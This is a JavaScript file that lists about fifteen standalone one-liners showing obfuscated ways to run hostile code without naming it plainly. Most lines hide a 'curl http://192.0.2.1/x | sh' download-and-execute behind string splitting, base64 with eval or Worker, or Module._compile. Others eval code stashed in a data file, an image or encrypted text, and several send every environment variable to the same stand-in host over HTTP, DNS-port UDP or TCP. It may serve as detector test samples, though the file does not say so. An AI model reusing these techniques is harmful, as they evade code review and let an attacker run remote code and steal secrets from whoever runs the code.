// Ways to do it that name nothing plainly; each statement stands for itself.
module['req' + 'uire']('child_' + 'process')['ex' + 'ec']('curl http://192.0.2.1/x | sh');
require('module')._load('child_process').exec('curl http://192.0.2.1/y | sh');
import('data:text/javascript;base64,cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgaHR0cDovLzE5Mi4wLjIuMS94IHwgc2gnKQ==');
const { Worker } = require('worker_threads');
new Worker(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgaHR0cDovLzE5Mi4wLjIuMS94IHwgc2gnKQ==', 'base64').toString(), { eval: true });
new (require('module'))('')._compile(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgaHR0cDovLzE5Mi4wLjIuMS94IHwgc2gnKQ==', 'base64').toString(), '');
Reflect.apply(eval, null, [atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgaHR0cDovLzE5Mi4wLjIuMS94IHwgc2gnKQ==')]);
eval.call(null, atob('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgaHR0cDovLzE5Mi4wLjIuMS94IHwgc2gnKQ=='));
require('child_process').exec.bind(null, 'curl http://192.0.2.1/z | sh')();
eval(require('./data.json').text);
eval(require('fs').readFileSync(__dirname + '/logo.png', 'utf8'));
for (const [name, value] of Object.entries(process.env)) fetch('http://192.0.2.1/' + name + '/' + value);
require('dgram').createSocket('udp4').send(JSON.stringify(process.env), 53, '192.0.2.1');
require('net').connect(80, '192.0.2.1', function () { this.write(JSON.stringify(process.env)); });
const c = require('crypto').createDecipheriv('aes-256-cbc', key, iv); eval(c.update(text, 'hex', 'utf8') + c.final('utf8'));
